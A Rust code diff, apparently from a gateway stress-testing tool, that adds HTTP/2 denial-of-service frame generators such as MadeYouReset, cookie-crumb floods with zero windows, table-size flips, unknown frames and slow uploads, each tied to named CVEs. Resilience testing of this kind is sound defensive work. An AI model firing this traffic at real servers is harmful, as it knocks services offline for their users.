@@ -1,5 +1,6 @@
 //! What offenders do.
 
+use std::ops::Range;
 use std::time::Duration;
 
 use clap::ValueEnum;
@@ -15,20 +16,37 @@ pub const DRIP: Duration = Duration::from_millis(500);
 /// Frames of a flood that are sent at once.
 const BATCH: u32 = 100;
 
+/// SETTINGS_HEADER_TABLE_SIZE.
+const TABLE: u16 = 1;
 /// SETTINGS_INITIAL_WINDOW_SIZE.
 const WINDOW: u16 = 4;
+
+/// Streams of a connection.
+const STREAMS: u32 = 100;
+
+/// Crumbs of a cookie in a request that is just about let through.
+const CRUMBS: usize = 90;
+
+/// A frame type that means nothing.
+const UNKNOWN: u8 = 0xee;
 
 /// What an offender does.
 #[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
 pub enum Kind {
     /// Requests that are taken back at once (CVE-2023-44487).
     RapidReset,
+    /// Requests followed by what makes the gateway reset them (CVE-2025-8671).
+    MadeYouReset,
     /// A field block without end (CVE-2024-27316).
     Continuation,
     /// PING.
     Pings,
     /// SETTINGS, each of which wants an answer.
     Settings,
+    /// SETTINGS that change the size of the table of fields to and fro.
+    TableFlips,
+    /// Frames of a type that nobody knows.
+    UnknownFrames,
     /// Empty DATA frames (RUSTSEC-2026-0258).
     EmptyData,
     /// PRIORITY.
@@ -37,6 +55,10 @@ pub enum Kind {
     WindowUpdates,
     /// A small block that unpacks into much (CVE-2026-47774).
     HpackBomb,
+    /// As many fields as are let through on a hundred streams, a byte each, with windows of nothing (CVE-2026-47774).
+    Crumbs,
+    /// A hundred uploads that get on by a byte now and then.
+    SlowUploads,
     /// A hundred large answers with windows of one byte, none of which is read.
     TinyWindows,
     /// Heads of HTTP/1 that come byte by byte, on 200 connections.
@@ -66,7 +88,9 @@ impl Kind {
     /// How it goes on.
     pub fn manner(self) -> Manner {
         match self {
-            Self::TinyWindows | Self::Slowloris | Self::SlowRead => Manner::Slow,
+            Self::Crumbs | Self::SlowUploads | Self::TinyWindows | Self::Slowloris | Self::SlowRead => {
+                Manner::Slow
+            }
             _ => Manner::Flood,
         }
     }
@@ -77,19 +101,34 @@ impl Kind {
             Self::Slowloris => Some(slowloris(turn)),
             Self::SlowRead => (turn == 0).then(|| (http1("/256k").repeat(8), 1)),
             _ if turn == 0 => Some((self.greeting(), 1)),
-            Self::TinyWindows => (turn == 1).then(|| {
-                let block = request("GET", "/256k");
-                let streams = (0..100).map(|n| 2 * n + 1);
-                (streams.flat_map(|id| frame(HEADERS, END | WHOLE, id, &block)).collect(), 100)
+            Self::TinyWindows => {
+                (turn == 1).then(|| on_streams(0..STREAMS, HEADERS, END | WHOLE, &request("GET", "/256k")))
+            }
+            Self::Crumbs => (turn == 1).then(|| {
+                let block = [request("GET", "/256k"), vec![FIRST; CRUMBS]].concat();
+                on_streams(1..STREAMS, HEADERS, END | WHOLE, &block)
             }),
+            Self::SlowUploads if turn == 1 => {
+                Some(on_streams(0..STREAMS, HEADERS, WHOLE, &request("POST", "/s")))
+            }
+            Self::SlowUploads => Some(on_streams(0..STREAMS, DATA, 0, b"a")),
             _ => Some(self.batch(turn)),
         }
     }
 
     fn greeting(self) -> Vec<u8> {
-        let settings = if self == Self::TinyWindows { setting(WINDOW, 1) } else { Vec::new() };
+        let settings = match self {
+            Self::TinyWindows => setting(WINDOW, 1),
+            Self::Crumbs => setting(WINDOW, 0),
+            _ => Vec::new(),
+        };
         let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat();
         match self {
+            // What all others refer to.
+            Self::Crumbs => {
+                let block = [request("GET", "/s"), remembered("cookie", b"a")].concat();
+                bytes.extend(frame(HEADERS, END | WHOLE, 1, &block));
+            }
             Self::Continuation => bytes.extend(frame(HEADERS, END, 1, &request("GET", "/s"))),
             Self::EmptyData => bytes.extend(frame(HEADERS, WHOLE, 1, &request("POST", "/s"))),
             _ => {}
@@ -122,6 +161,12 @@ impl Kind {
                     frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()),
                 ]
                 .concat(),
+                Self::MadeYouReset => {
+                    let get = frame(HEADERS, END | WHOLE, stream, &request("GET", "/s"));
+                    [get, wrong(n, stream)].concat()
+                }
+                Self::TableFlips => frame(SETTINGS, 0, 0, &setting(TABLE, if n % 2 == 0 { 0 } else { 4096 })),
+                Self::UnknownFrames => frame(UNKNOWN, 0, 0, b"what?"),
                 Self::Pings => frame(PING, 0, 0, b"are you?"),
                 Self::Settings => frame(SETTINGS, 0, 0, &setting(WINDOW, 65_535)),
                 Self::EmptyData => frame(DATA, 0, 1, b""),
@@ -129,8 +174,24 @@ impl Kind {
                 _ => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
             }
         });
-        let count = if self == Self::RapidReset { 2 * BATCH } else { BATCH };
+        let count = if matches!(self, Self::RapidReset | Self::MadeYouReset) { 2 * BATCH } else { BATCH };
         (frames.collect(), u64::from(count))
+    }
+}
+
+/// A frame of this kind on each of these streams.
+fn on_streams(streams: Range<u32>, kind: u8, flags: u8, payload: &[u8]) -> (Vec<u8>, u64) {
+    let count = streams.len() as u64;
+    (streams.flat_map(|n| frame(kind, flags, 2 * n + 1, payload)).collect(), count)
+}
+
+/// What no stream may get: each time another frame.
+fn wrong(n: u32, stream: u32) -> Vec<u8> {
+    match n % 4 {
+        0 => frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
+        1 => frame(PRIORITY, 0, stream, b"a"),
+        2 => frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat()),
+        _ => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
     }
 }
 
